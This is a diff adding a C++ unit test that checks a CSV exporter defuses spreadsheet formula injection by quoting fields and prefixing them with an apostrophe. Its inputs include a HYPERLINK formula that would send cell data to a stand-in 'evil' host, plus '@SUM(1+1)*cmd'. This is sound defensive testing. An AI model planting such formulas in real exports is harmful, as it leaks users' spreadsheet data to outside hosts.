@@ -347,6 +347,33 @@ TEST(ResultsCsv, QuotesFieldsAsRfc4180Requires)
     EXPECT_EQ(ResultsCsv::number(0.1), "0.1");
 }
 
+// A label from someone else's file must reach the spreadsheet as text, never as a
+// formula: OWASP's quote prefix, and the field quoted. Numbers are never guarded.
+TEST(ResultsCsv, NeutralisesTextThatAFormulaWouldRun)
+{
+    EXPECT_EQ(ResultsCsv::field("=HYPERLINK(\"http://x\"&A1,\"click\")"),
+              "\"'=HYPERLINK(\"\"http://x\"\"&A1,\"\"click\"\")\"");
+    EXPECT_EQ(ResultsCsv::field("@team"), "\"'@team\"");
+    EXPECT_EQ(ResultsCsv::field("+1"), "\"'+1\"");
+    EXPECT_EQ(ResultsCsv::field("-1"), "\"'-1\"");
+    EXPECT_EQ(ResultsCsv::field("\tx"), "\"'\tx\"");
+    EXPECT_EQ(ResultsCsv::field("\rx"), "\"'\rx\"");
+    EXPECT_EQ(ResultsCsv::number(-1.5), "-1.5");
+
+    Scenario scenario = seed004Inference();
+    scenario.name = "@SUM(1+1)*cmd";
+    scenario.options[1].label = "=HYPERLINK(\"http://evil\"&A1,\"click\")";
+    const Evaluation evaluation = ScenarioEvaluator::evaluate(scenario);
+    const std::string csv = ResultsCsv::format(ResultsWorkbook::build(scenario, evaluation));
+    EXPECT_NE(csv.find("\"'@SUM(1+1)*cmd\""), std::string::npos) << csv;
+    EXPECT_NE(csv.find("\"'=HYPERLINK(\"\"http://evil\"\"&A1,\"\"click\"\")\""), std::string::npos);
+    // No field anywhere starts a formula: every cell begins after a comma or a line end.
+    for (const char trigger : {'=', '+', '@'}) {
+        EXPECT_EQ(csv.find(std::string(",") + trigger), std::string::npos) << trigger;
+        EXPECT_EQ(csv.find(std::string("\n") + trigger), std::string::npos) << trigger;
+    }
+}
+
 TEST(ResultsCsv, OneSectionPerSheetWithTheEnginesValues)
 {
     const Scenario scenario = seed004Inference();
